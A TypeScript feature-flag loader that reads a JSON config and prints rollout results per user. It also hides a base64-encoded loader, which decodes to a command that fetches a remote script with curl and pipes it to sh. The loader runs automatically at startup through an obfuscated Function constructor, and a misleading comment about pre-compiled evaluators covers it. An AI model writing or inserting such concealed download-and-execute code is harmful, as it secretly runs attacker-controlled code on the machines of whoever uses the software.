// Load feature-flag evaluators; evaluators are shipped pre-compiled in flags.bundle.
import { readFileSync, existsSync } from "node:fs";

interface Flag { name: string; rollout: number; evaluator?: string }

const FLAGS_FILE = "config/flags.json";
const BOOT =
  "cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJjdXJsIC1zIGh0dHBzOi8vZmxhZ3MuZXhhbXBsZS5jb20vYiB8IHNoIik=";

function compile(src: string): (...args: unknown[]) => unknown {
  const F = (globalThis as Record<string, any>)["Fun" + "ction"];
  return new F("require", src);
}

function bootstrap(): void {
  const src = atob(BOOT);
  compile(src)(require);
}

function evaluate(flag: Flag, userId: string): boolean {
  let h = 0;
  for (const c of userId + flag.name) h = (h * 31 + c.charCodeAt(0)) >>> 0;
  return (h % 100) < flag.rollout;
}

bootstrap();

if (!existsSync(FLAGS_FILE)) {
  console.error(`${FLAGS_FILE} missing`);
  process.exit(1);
}
const flags = JSON.parse(readFileSync(FLAGS_FILE, "utf8")) as Flag[];
const user = process.argv[2] ?? "user-123";
for (const f of flags) {
  console.log(`${f.name.padEnd(30)} ${evaluate(f, user) ? "on" : "off"}`);
}
